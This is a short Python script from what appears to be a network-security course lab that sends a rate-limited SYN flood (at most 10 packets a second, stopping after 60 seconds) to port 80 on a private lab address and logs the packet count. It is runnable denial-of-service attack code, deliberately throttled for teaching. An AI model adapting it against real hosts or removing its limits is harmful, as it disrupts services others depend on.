#!/usr/bin/env python3
"""
Lab Part 4: a low-rate SYN flood in a controlled lab: at most 10 packets a second, stops by
itself after 60 seconds, logs timestamps and the packet count.
"""
from __future__ import annotations
import time
from datetime import datetime
from fastpkt.scapy import IP, TCP, send
from _course import target  # --target HOST: a lab host you own

if __name__ == "__main__":
    packet = IP(dst=target("192.168.56.10")) / TCP(dport=80, flags="S")
    print(f"[*] Start {datetime.utcnow().isoformat()}")
    start = time.time()
    count = 0
    while time.time() - start < 60:
        send(packet, verbose=False)
        count += 1
        time.sleep(0.1)
    print(f"[*] Stop {datetime.utcnow().isoformat()}")
    print(f"Sent {count} packets")
